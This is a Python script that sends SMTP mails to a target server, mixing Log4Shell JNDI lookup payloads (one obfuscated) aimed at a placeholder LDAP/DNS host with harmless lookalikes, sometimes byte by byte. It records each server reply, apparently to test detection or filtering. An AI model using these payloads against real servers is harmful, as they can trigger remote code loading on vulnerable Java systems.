"""Sends mails, attacks among them, one byte at a time or not.

usage: mails.py SERVER COUNT SEED. Writes {"number": [is_attack, the last reply]} as JSON.
"""

import json
import random
import socket
import sys

NAMES = ("${jndi:ldap://203.0.113.9/%d}", "${${lower:j}ndi:dns://203.0.113.9/%d}")
HARMLESS = ("invoice %d", "${date} %d", "jndi:ldap %d")


def replies_to(connection, data, size):
    """Sends, and reads one whole reply."""
    for at in range(0, len(data), size):
        connection.sendall(data[at:at + size])
    said = b""
    while True:
        more = connection.recv(4096)
        if not more:
            return said.decode() or "end"
        said += more
        last = said.split(b"\r\n")[-2] if said.endswith(b"\r\n") else b""
        if last[3:4] == b" ":
            return said.decode()


def mail(server, number, subject, body, size):
    said = ""
    try:
        with socket.create_connection((server, 25), 10) as connection:
            connection.settimeout(10)
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            text = (f"From: a@example.org\r\nTo: b@example.test\r\nSubject: {subject}\r\n"
                    f"Message-ID: <{number}@example.org>\r\n\r\n{body}\r\n.\r\n")
            for line in ("", "EHLO client.example.org\r\n", "MAIL FROM:<a@example.org>\r\n",
                         "RCPT TO:<b@example.test>\r\n", "DATA\r\n", text):
                said = replies_to(connection, line.encode(), size)
                if said[:1] not in "23":
                    break
    except ConnectionError:
        said = "reset"
    except TimeoutError:
        said = "silence"
    return said.strip().split("\r\n")[-1][:30]


def main():
    server, count, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    random_ = random.Random(seed)
    results = {}
    for number in range(count):
        attack = random_.random() < 0.4
        text = random_.choice(NAMES if attack else HARMLESS) % number
        parts = ("hello", f"and\r\n{text}\r\nmore\r\n")
        subject, body = (text, parts[0]) if random_.random() < 0.5 else ("plain", parts[1])
        results[number] = [attack, mail(server, number, subject, body,
                                        random_.choice((1, 13, 1 << 20)))]
    json.dump(results, sys.stdout)


if __name__ == "__main__":
    main()
